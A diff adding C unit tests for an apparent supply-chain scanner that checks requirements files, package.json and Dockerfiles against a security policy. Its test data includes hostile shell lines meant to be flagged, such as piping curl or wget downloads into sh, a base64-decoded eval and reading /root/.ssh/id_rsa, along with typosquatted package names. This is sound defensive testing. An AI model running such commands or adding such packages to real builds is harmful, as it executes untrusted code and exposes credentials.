@@ -1,0 +1,271 @@
+/* SPDX-License-Identifier: MIT
+ * Manifests: which files have a reader, and the packages in them. */
+#include "analyzer/manifest/manifest.h"
+
+#include "analyzer/analyze.h"
+#include "tests/unit/unit.h"
+
+static struct cbx_policy *policy;
+static struct cbx_arena arena;
+
+static int set_up(void **state)
+{
+    (void)state;
+    struct cbx_err err;
+    cbx_arena_init(&arena, CBX_ANALYSIS_ARENA_MAX);
+    return cbx_policy_load("default", &policy, &err);
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    cbx_policy_free(policy);
+    cbx_arena_done(&arena);
+    return 0;
+}
+
+static void the_name_of_a_file_selects_its_reader(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *path, *reader;
+    } cases[] = {
+        { "requirements.txt", "requirements" },
+        { "x/Requirements-dev.TXT", "requirements" },
+        { "dev-requirements.in", "requirements" },
+        { "constraints.txt", "requirements" },
+        { "package.json", "package_json" },
+        { "x/Dockerfile", "dockerfile" },
+        { "Dockerfile.dev", "dockerfile" },
+        { "web.dockerfile", "dockerfile" },
+        { "Containerfile", "dockerfile" },
+        { "requirements.txt/x", NULL },
+        { "notes.txt", NULL },
+        { "", NULL },
+    };
+    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        const struct cbx_manifest_reader *r = cbx_manifest_reader_of(cbx_str_of(cases[i].path));
+        const char *name = r != NULL ? r->name : "none";
+        assert_string_equal(name, cases[i].reader != NULL ? cases[i].reader : "none");
+        assert_true(r == NULL || cbx_manifest_reader_find(r->name)->read == r->read);
+    }
+}
+
+/* "rule line:column-column" of each finding, with "; " between them. */
+static void judge(const char *name, const char *text, struct cbx_buf *out)
+{
+    struct cbx_manifest manifest;
+    struct cbx_decision decision;
+    struct cbx_err err = { 0 };
+    cbx_arena_reset(&arena);
+    const struct cbx_manifest_reader *reader = cbx_manifest_reader_of(cbx_str_of(name));
+    assert_non_null(reader);
+    if (reader->read(cbx_str_of(text), &arena, &manifest, &err) != 0) {
+        cbx_buf_add_cstr(out, err.text);
+        return;
+    }
+    assert_int_equal(cbx_manifest_judge(policy, &manifest, 0, &arena, &decision, &err), 0);
+    for (size_t i = 0; i < decision.finding_count; i++) {
+        const struct cbx_finding *f = &decision.findings[i];
+        cbx_buf_printf(out, "%s%.*s %u:%u-%u", i > 0 ? "; " : "", CBX_STR_ARG(f->rule->id),
+                       f->span.line, f->span.column, f->span.end_column);
+    }
+}
+
+struct expected {
+    const char *text, *findings;
+};
+
+static void check(const char *name, const struct expected *cases, size_t count)
+{
+    for (size_t i = 0; i < count; i++) {
+        CBX_AUTO_DONE(buf) out;
+        cbx_buf_init(&out, 65536);
+        judge(name, cases[i].text, &out);
+        assert_string_equal(out.p, cases[i].findings);
+    }
+}
+
+static void requirements_are_judged_as_words_of_pip_install(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "", "" },
+        { "# paramiko\n\nrequests==2.32.0\n", "" },
+        { "requests\n  paramiko>=2  # x\n", "pkg.blocked 2:3-14" },
+        { "numpy==1.20.0 ; python_version > '3'\n", "pkg.version 1:1-37" },
+        { "reqeusts \\\n    --hash=sha256:0\n", "pkg.look-alike 1:1-9" },
+        { "git+https://example.org/x.git#egg=x\n", "pkg.source 1:1-36" },
+        { "x @ https://example.org/x.whl", "pkg.source 1:1-30" },
+        { "--extra-index-url http://example.org/simple\n", "pkg.source 1:1-44" },
+        { "-r https://example.org/r.txt\n", "pkg.source 1:1-29" },
+        { "# the files of the project are judged by themselves\n-r other.txt\n-c c.txt\n-e .\n",
+          "" },
+        { "\xC3\xA4\nparamiko", "pkg.blocked 2:1-9" },
+    };
+    check("requirements.txt", cases, sizeof(cases) / sizeof(cases[0]));
+}
+
+static void dependencies_of_package_json_are_judged_at_their_places(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "{}", "" },
+        { "{\"dependencies\": {\"lodash\": \"^4.17.0\", \"mine\": \"workspace:*\", \"b\": "
+          "\"file:../b\"}}",
+          "" },
+        { "{\n \"devDependencies\": {\"crossenv\": \"*\"}}", "pkg.look-alike 2:22-37" },
+        { "{\"peerDependencies\": {\"cross\\u0065nv\": \"1\"}}", "pkg.look-alike 1:23-43" },
+        { "{\"optionalDependencies\": {\"x\": \"git+https://example.org/x.git\"}}",
+          "pkg.source 1:27-63" },
+        { "{\"other\": {\"crossenv\": \"*\"}, \"x\": [{\"dependencies\": {\"crossenv\": \"1\"}}]}",
+          "" },
+        { "{\"dependencies\": [\"crossenv\"]}", "'dependencies' is not an object" },
+        { "{\"dependencies\": {\"a\": {}}}", "'a' of 'dependencies' is not a text" },
+        { "{\"scripts\": {\"a\": \"x\", \"a\": \"y\"}}",
+          "line 1, column 26: duplicate object key near '\"a\"'" },
+        { "[]", "it is no JSON object" },
+    };
+    check("package.json", cases, sizeof(cases) / sizeof(cases[0]));
+}
+
+/* "language<text>line:column" of each piece; the place is that of its last byte. */
+static void take_apart(const char *name, const char *text, struct cbx_buf *out)
+{
+    struct cbx_manifest manifest;
+    struct cbx_err err = { 0 };
+    cbx_arena_reset(&arena);
+    const struct cbx_manifest_reader *reader = cbx_manifest_reader_of(cbx_str_of(name));
+    if (reader->read(cbx_str_of(text), &arena, &manifest, &err) != 0) {
+        cbx_buf_add_cstr(out, err.text);
+        return;
+    }
+    for (size_t i = 0; i < manifest.piece_count; i++) {
+        const struct cbx_manifest_piece *p = &manifest.pieces[i];
+        struct cbx_span last = { .start_byte = (uint32_t)p->text.len - 1,
+                                 .end_byte = (uint32_t)p->text.len };
+        cbx_manifest_map(&manifest, p, &last);
+        cbx_buf_printf(out, "%s<%.*s>%u:%u", p->language, CBX_STR_ARG(p->text), last.line,
+                       last.column);
+    }
+}
+
+static void check_pieces(const char *name, const struct expected *cases, size_t count)
+{
+    for (size_t i = 0; i < count; i++) {
+        CBX_AUTO_DONE(buf) out;
+        cbx_buf_init(&out, 65536);
+        take_apart(name, cases[i].text, &out);
+        assert_string_equal(out.p, cases[i].findings);
+    }
+}
+
+static void scripts_of_package_json_are_shell_code_with_escapes_decoded(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "{\"scripts\":\n{\"a\": \"x \\\"y\\\" z\"}}", "shell<x \"y\" z>2:16" },
+        { "{\"scripts\": {\"a\": \"\\u00e4\\ud83d\\ude00\\n\\/b\", \"e\": \"\"}}",
+          "shell<\xC3\xA4\xF0\x9F\x98\x80\n/b>1:42" },
+        { "{\"config\": {\"scripts\": {\"a\": \"x\"}}}", "" },
+    };
+    check_pieces("package.json", cases, sizeof(cases) / sizeof(cases[0]));
+}
+
+static void commands_of_a_dockerfile_are_shell_code(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "FROM a\nRUN ls\n", "shell<ls\n>2:7" },
+        { "# RUN x\n\nrun  --mount=type=cache --x ls", "shell<ls>3:30" },
+        { "RUN a \\\n  # no\n\n  b\nRUN c", "shell<a \\\n  b\n>4:4shell<c>5:5" },
+        { "ENV A=b \\\n RUN x\nCMD y", "shell<y>3:5" },
+        { "RUN [\"sh\", \"-c\", \"it's\"]", "shell<'sh' '-c' 'it'\\''s' >1:18" },
+        { "RUN [ -f x ] && y", "shell<[ -f x ] && y>1:17" },
+        { "RUN <<E\na\nE\nRUN b", "shell<a\n>2:2shell<b>4:5" },
+        { "RUN <<-'E'\n#!/usr/bin/python3\na\n\tE\n", "python<#!/usr/bin/python3\na\n>3:2" },
+        { "RUN cat <<E\nx\nE\nRUN b", "shell<cat <<E\nx\nE\n>3:2shell<b>4:5" },
+        { "RUN echo $((1<<3)) \" <<E\"\nRUN b\nE",
+          "shell<echo $((1<<3)) \" <<E\"\n>1:26shell<b\n>2:6" },
+        { "COPY <<E /x\nRUN x\nE\nENTRYPOINT y", "shell<y>4:12" },
+        { "CMD cat <<E\nRUN b\n", "shell<cat <<E\n>1:12shell<b\n>2:6" },
+        { "ONBUILD RUN x", "shell<x>1:13" },
+        { "HEALTHCHECK --interval=5s CMD x", "shell<x>1:31" },
+        { "SHELL [\"/bin/bash\", \"-c\"]\nRUN x", "shell<x>2:5" },
+    };
+    check_pieces("Dockerfile", cases, sizeof(cases) / sizeof(cases[0]));
+}
+
+static void a_dockerfile_that_is_not_understood_is_an_error_with_its_place(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "FROM a\nSHELL [\"powershell\"]\n",
+          "line 2, column 1: SHELL is none that is analyzed, allowed are sh and bash" },
+        { "# escape=`\nFROM a", "line 1, column 1: another escape character is not read" },
+        { "RUN <<E\nx", "line 1, column 5: a here-document without an end" },
+        { "RUN <<E;x\nE",
+          "line 1, column 5: a here-document whose name is not of letters and digits" },
+        { "RUN [\"sh\", \\\n\"-c\"]",
+          "line 1, column 5: an array of words over several lines is not read" },
+        { "RUN <<E\n#!/usr/bin/perl\nE",
+          "line 2, column 1: a program in a language without an analyzer" },
+    };
+    check_pieces("Dockerfile", cases, sizeof(cases) / sizeof(cases[0]));
+}
+
+/* The facts of the shell that count in a build, as rules. */
+static void judge_build(const char *code, struct cbx_buf *out)
+{
+    struct cbx_decision decision;
+    struct cbx_err err;
+    struct cbx_analysis request = { .source = cbx_str_of(code),
+                                    .language = CBX_STR("shell"),
+                                    .build = true };
+    cbx_arena_reset(&arena);
+    assert_int_equal(cbx_analyze(policy, &request, &arena, &decision, &err), 0);
+    for (size_t i = 0; i < decision.finding_count; i++) {
+        cbx_buf_printf(out, "%s%.*s", i > 0 ? " " : "", CBX_STR_ARG(decision.findings[i].rule->id));
+    }
+}
+
+static void a_build_may_start_programs_but_not_what_it_downloads(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "apt-get update && apt-get install -y $X && rm -rf /var/lib/apt > /etc/x", "" },
+        { "tsc && vite build && npm run x && $CMD y; eval \"$(ssh-agent)\"", "" },
+        { "npm ci && pip install -r r.txt && pip install -e . && curl -o x http://x/y", "" },
+        { "curl http://x/y | sh", "sh.command" },
+        { "curl http://x/y | sudo bash -s --", "sh.command" },
+        { "bash <(wget -O- http://x/y)", "sh.command" },
+        { "sh -c \"$(curl http://x/y)\"", "sh.command" },
+        { "eval $(echo aWQ= | base64 -d)", "sh.command" },
+        { "pip install paramiko", "pkg.blocked" },
+        { "pip install -r http://x/r.txt", "pkg.source" },
+        { "node -e 'eval(x)'", "js.dynamic-code" },
+        { "cat /root/.ssh/id_rsa", "any.credentials" },
+    };
+    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        CBX_AUTO_DONE(buf) out;
+        cbx_buf_init(&out, 65536);
+        judge_build(cases[i].text, &out);
+        if (strcmp(out.p, cases[i].findings) != 0) {
+            fail_msg("%s: '%s'", cases[i].text, out.p);
+        }
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(the_name_of_a_file_selects_its_reader),
+        cmocka_unit_test(requirements_are_judged_as_words_of_pip_install),
+        cmocka_unit_test(dependencies_of_package_json_are_judged_at_their_places),
+        cmocka_unit_test(scripts_of_package_json_are_shell_code_with_escapes_decoded),
+        cmocka_unit_test(commands_of_a_dockerfile_are_shell_code),
+        cmocka_unit_test(a_dockerfile_that_is_not_understood_is_an_error_with_its_place),
+        cmocka_unit_test(a_build_may_start_programs_but_not_what_it_downloads),
+    };
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
